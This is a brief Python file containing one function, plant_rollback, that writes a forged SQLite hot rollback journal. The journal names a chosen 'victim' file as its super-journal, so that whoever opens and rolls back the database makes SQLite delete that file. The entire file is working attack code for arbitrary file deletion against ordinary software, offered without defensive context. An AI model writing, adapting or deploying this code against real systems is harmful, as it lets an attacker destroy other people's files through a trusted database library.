"""What somebody may put beside a journal so that SQLite does their work: a hot rollback journal that names a file."""

from __future__ import annotations

import os
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
LOCK_BYTE = 0x40000000


def plant_rollback(journal: Path, victim: Path) -> None:
    """A rollback journal without pages, whose super-journal is the victim: whoever rolls it back deletes that."""
    data = journal.read_bytes()
    page_size = int.from_bytes(data[16:18], "big") or 4096
    page_size = 65536 if page_size == 1 else page_size
    name = os.fsencode(victim)
    header = MAGIC + struct.pack(">IIIII", 0, 0, len(data) // page_size, SECTOR, page_size)
    record = struct.pack(">I", LOCK_BYTE // page_size + 1) + name
    record += struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + MAGIC
    journal.with_name(journal.name + "-journal").write_bytes(header.ljust(SECTOR, b"\0") + record)
